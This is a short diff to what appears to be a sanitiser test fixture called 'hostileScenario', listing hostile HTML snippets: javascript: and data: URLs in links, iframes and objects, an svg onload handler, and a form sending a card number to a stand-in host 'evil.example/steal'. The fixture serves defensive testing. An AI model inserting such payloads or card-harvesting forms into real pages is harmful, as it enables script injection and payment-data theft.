@@ -122,7 +122,7 @@ export const hostileScenario = singleOfferScenario({
     '<a href="javascript:window.__upsellXss=1">Claim now</a> · ',
     '<a href="https://example.com/terms" target="_self">Terms</a> · ',
     '<a href="data:text/html,<script>window.__upsellXss=1</script>">Details</a></div>',
-    '<form action="https://evil.example/steal"><input name="card" placeholder="Card number"><button>Pay</button></form>',
+    '<form action="https://evil.example/steal"><label for="card">Card number</label><input id="card" name="card"><button>Pay</button></form>',
     '<iframe src="javascript:window.__upsellXss=1"></iframe>',
     '<object data="javascript:window.__upsellXss=1"></object>',
     '<svg onload="window.__upsellXss=1"><circle r="4"/></svg>',
